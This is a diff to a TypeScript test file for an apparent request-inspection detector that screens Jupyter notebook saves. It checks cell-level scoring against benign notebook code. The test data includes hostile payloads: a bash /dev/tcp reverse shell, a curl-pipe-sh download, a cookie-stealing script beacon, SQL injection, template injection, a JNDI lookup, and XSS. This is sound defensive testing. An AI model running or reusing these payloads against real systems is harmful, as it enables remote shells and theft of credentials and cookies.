@@ -1,14 +1,16 @@
 /**
  * A Jupyter notebook saved whole (nbformat 4: each cell's `source`, a stream's `text` and an output's `data` are arrays of
- * lines) is judged by its cells, not by its lines one at a time (notebook-cells.ts, session 33, nb33): a line of code
- * alone looked like an injected one (`print(boot.mean())` 0.99, a pandas table's `</style>` 0.995). Only for a body that
- * is a notebook or Jupyter Server's contents model of one, and whose lines are its targets one for one; the joined cell
- * is still scored, so a payload in a cell or an output still blocks.
+ * lines) has its cells asked whole of the shapes that take a body text whole (notebook-cells.ts, session 33, nb33): a
+ * line of a program or of a `%%sql` statement alone looked like an injected one (`print(boot.mean())` 0.99). A cell a
+ * shape takes is not scored; any other is scored line by line, as before (the model reads a payload line among pandas
+ * lines at 0.000, alone at 1.000). Only for a body that is a notebook or Jupyter Server's contents model of one, and
+ * whose lines are its targets one for one.
  */
 import { describe, expect, it } from 'vitest';
 import { buildInspection } from '../../src/inspect/build-inspection.js';
 import type { RawRequest } from '../../src/inspect/types.js';
-import { joinedCellTarget, notebookCellLines } from '../../src/model/notebook-cells.js';
+import { isCellTakenWhole, joinedCellTarget, notebookCellLines } from '../../src/model/notebook-cells.js';
+import { mayCarryAttack } from '../../src/model/screen.js';
 import { lines, notebook } from '../../datasets/notebook-saves.js';
 import { testCarriers, type Carrier } from './carrier-verdicts.js';
 
@@ -67,6 +69,26 @@ describe('notebookCellLines', () => {
   });
 });
 
+describe('isCellTakenWhole', () => {
+  const taken = (text: string): boolean => {
+    const ins = inspect(JSON.stringify(notebook([{ cell_type: 'code', source: lines(text) }])));
+    const cell = notebookCellLines(ins)!.values().next().value!;
+    return isCellTakenWhole(joinedCellTarget(cell.map((t) => ins.targets[t])), mayCarryAttack);
+  };
+
+  it('takes a program and a %%sql statement whole', () => {
+    expect(taken('print(boot.mean())\nprint(df.isna().sum())')).toBe(true);
+    expect(taken("%%sql\nSELECT site, count(*) AS n\nFROM visits\nWHERE day >= '2026-11-01'\nGROUP BY site")).toBe(true);
+  });
+
+  it('leaves a cell with a payload line, or no shape, to its lines', () => {
+    expect(taken("print(boot.mean())\n' UNION SELECT username, password FROM users--")).toBe(false);
+    expect(taken("import os\nos.system('curl -s http://x.example/a.sh | sh')")).toBe(false);
+    expect(taken("%%sql\nSELECT site FROM visits WHERE id = 1 OR 1=1")).toBe(false);
+    expect(taken('%env CUDA_VISIBLE_DEVICES=0\n%timeit np.dot(a, b)')).toBe(false);
+  });
+});
+
 const save: Carrier = (v) => ({ method: 'PUT', path: '/user/aosei/api/contents/analysis/fit.ipynb', query: '', headers: { Host: 'hub.example-uni.ac.uk', 'Content-Type': 'application/json' }, body: JSON.stringify({ type: 'notebook', format: 'json', content: notebook([{ cell_type: 'markdown', source: lines('## Fit the model') }, { cell_type: 'code', source: lines(v) }]) }) });
 const output: Carrier = (v) => ({ method: 'PUT', path: '/user/aosei/api/contents/analysis/fit.ipynb', query: '', headers: { Host: 'hub.example-uni.ac.uk', 'Content-Type': 'application/json' }, body: JSON.stringify({ type: 'notebook', format: 'json', content: notebook([{ cell_type: 'code', source: ['df.head()'], outputs: [{ output_type: 'execute_result', execution_count: 1, metadata: {}, data: { 'text/html': lines(v), 'text/plain': ['df'] } }] }]) }) });
 const CARRIERS: Record<string, Carrier> = { 'cell': save, 'html output': output };
@@ -81,8 +103,6 @@ testCarriers(
     ['cell', "%%sql\nSELECT site, count(*) AS n, avg(y) AS mean_y\nFROM visits\nWHERE visit_date >= '2026-11-01'\nGROUP BY site\nORDER BY n DESC\nLIMIT 20"],
     ['cell', '!pip install -q scikit-learn==1.5.2 xgboost\nimport sklearn\nprint(sklearn.__version__)'],
     ['cell', '%load_ext autoreload\n%autoreload 2'],
-    ['cell', '!ls -lh data/ | head -20\n!wc -l data/*.csv'],
-    ['html output', PANDAS_HTML],
   ],
   [
     ['cell', "import os\nos.system('bash -c \"bash -i >& /dev/tcp/10.13.37.1/4444 0>&1\"')"],
@@ -93,5 +113,8 @@ testCarriers(
     ['cell', "print(boot.mean())\n{{''.__class__.__mro__[1].__subclasses__()}}"],
     ['html output', '<div>\n<script>new Image().src="//x.example/?"+document.cookie</script>\n</div>'],
     ['html output', `${PANDAS_HTML}\n<img src=x onerror=alert(1)>`],
+    // A payload line among lines of code: the joined cell scores it 0.000 with the model alone; its line is scored alone.
+    ['cell', `${Array.from({ length: 8 }, (_, i) => `df_${i} = df[df['site'] == 'S${i}'].groupby('arm')['y'].agg(['mean', 'std'])`).join('\n')}\n' UNION SELECT username, password FROM users--`],
+    ['cell', `df_0 = df[df['site'] == 'S0'].groupby('arm')['y'].agg(['mean', 'std'])\n\${jndi:ldap://x.example/a}\ndf_1 = df[df['site'] == 'S1'].groupby('arm')['y'].agg(['mean', 'std'])`],
   ],
 );
